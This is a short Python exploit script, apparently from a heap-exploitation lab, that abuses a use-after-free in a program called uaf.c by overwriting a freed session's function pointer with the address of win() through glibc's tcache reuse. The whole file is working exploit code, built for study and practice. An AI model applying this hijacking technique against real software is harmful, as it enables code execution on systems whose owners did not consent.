#!/usr/bin/env python3
"""Exploit for uaf.c: fill the freed session's chunk with win's address.

From the source: the session (32 bytes, its function pointer first) is
freed, then a 32-byte message is allocated and read from standard input;
glibc's tcache returns the chunk just freed, so the first 8 bytes of the
message are the stale session's function pointer. From the binary: win()'s
offset (nm). From the leak: the binary's base.
"""
import attacker as a

SESSION_SIZE = 32

args = a.parse_args(__doc__)
win = a.symbols(args.binary)["win"]
layout = a.leak_layout(args)

payload = a.p64(layout.binary_base + win)
payload += b"mallory".ljust(SESSION_SIZE - len(payload), b"\x00")
a.send(args.fifo, payload)
